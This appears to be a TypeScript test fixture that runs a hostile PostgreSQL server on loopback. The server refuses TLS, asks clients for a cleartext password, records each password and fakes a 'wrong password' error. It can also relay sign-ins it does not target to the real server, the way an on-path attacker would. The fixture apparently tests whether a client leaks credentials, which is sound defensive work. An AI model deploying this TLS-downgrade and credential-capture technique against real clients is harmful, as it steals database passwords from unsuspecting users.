import { connect, createServer, type Server, type Socket } from 'node:net';
import { closeServer, listenOnLoopback } from './loopback.js';
import {
  errorResponse,
  PROTOCOL_3,
  pgMessage,
  SSL_REQUEST,
  startupParameters,
  takeStartup,
  takeTyped,
} from './pg-wire.js';

/** What a hostile endpoint obtained from one connection. */
export interface Capture {
  user: string;
  database: string;
  /** The cleartext password the client sent when asked for one. */
  password: string;
  /** Whether the client asked for TLS first (SSLRequest) and was told "no". */
  askedForTls: boolean;
}

/**
 * A PostgreSQL endpoint run by an attacker, on loopback, speaking the real wire protocol: it
 * answers SSLRequest with "N" (no TLS) and asks for the password in cleartext
 * (AuthenticationCleartextPassword), which a client that accepts plaintext sends as it is. It
 * then refuses the sign-in (28P01), so the client sees an ordinary wrong password.
 *
 * With `upstream`, it is an on-path attacker instead: connections of users that `capture` does
 * not select are relayed to the real server (after the same "no TLS" answer), so those sign-ins
 * work and the rotation goes on to the privileged one.
 */
export class HostilePgServer {
  readonly captures: Capture[] = [];
  /** Every user name that tried to sign in, captured or relayed. */
  readonly startups: string[] = [];
  /** The user and database of every startup message, captured or relayed. */
  readonly sessions: { user: string; database: string }[] = [];
  private readonly sockets = new Set<Socket>();

  private constructor(
    private readonly server: Server,
    readonly port: number,
  ) {}

  static async start(
    options: {
      upstream?: { host: string; port: number };
      capture?: (user: string) => boolean;
    } = {},
  ): Promise<HostilePgServer> {
    const capture = options.capture ?? (() => true);
    let self: HostilePgServer | undefined;
    const server = createServer((client) => {
      if (!self) return client.destroy();
      self.sockets.add(client);
      client.on('error', () => {});
      let buffer: Buffer = Buffer.alloc(0);
      let askedForTls = false;
      let captured: Omit<Capture, 'password'> | undefined;
      const onData = (chunk: Buffer) => {
        buffer = Buffer.concat([buffer, chunk]);
        for (;;) {
          if (captured === undefined) {
            // Startup phase: untyped messages (length, then code).
            const startup = takeStartup(buffer);
            if (!startup) return;
            const { code, message } = startup;
            buffer = startup.rest;
            if (code === SSL_REQUEST) {
              askedForTls = true;
              client.write('N');
              continue;
            }
            if (code !== PROTOCOL_3) return void client.destroy();
            const params = startupParameters(message);
            const user = params.user ?? '';
            self?.startups.push(user);
            self?.sessions.push({ user, database: params.database ?? user });
            if (options.upstream && !capture(user)) {
              // Relay this sign-in to the real server, starting with the startup message.
              client.off('data', onData);
              const upstream = connect(options.upstream.port, options.upstream.host);
              self?.sockets.add(upstream);
              upstream.on('error', () => client.destroy());
              client.on('close', () => upstream.destroy());
              upstream.on('close', () => client.destroy());
              upstream.write(message);
              if (buffer.length > 0) upstream.write(buffer);
              client.pipe(upstream).pipe(client);
              return;
            }
            captured = { user, database: params.database ?? user, askedForTls };
            // AuthenticationCleartextPassword: 'R', code 3.
            const cleartext = Buffer.alloc(4);
            cleartext.writeInt32BE(3, 0);
            client.write(pgMessage('R', cleartext));
            continue;
          }
          // Typed messages: the PasswordMessage ('p').
          const typed = takeTyped(buffer);
          if (!typed) return;
          const { type, body } = typed;
          buffer = typed.rest;
          if (type === 'p') {
            self?.captures.push({
              ...captured,
              password: body.toString('utf8').replace(/\0$/, ''),
            });
            client.end(
              errorResponse(
                '28P01',
                `password authentication failed for user "${captured.user}"`,
                'FATAL',
              ),
            );
            return;
          }
          if (type === 'X') return void client.end();
        }
      };
      client.on('data', onData);
    });
    const port = await listenOnLoopback(server);
    self = new HostilePgServer(server, port);
    return self;
  }

  /** Every password any client sent here. */
  passwords(): string[] {
    return this.captures.map((capture) => capture.password);
  }

  async stop(): Promise<void> {
    await closeServer(this.server, this.sockets);
  }
}
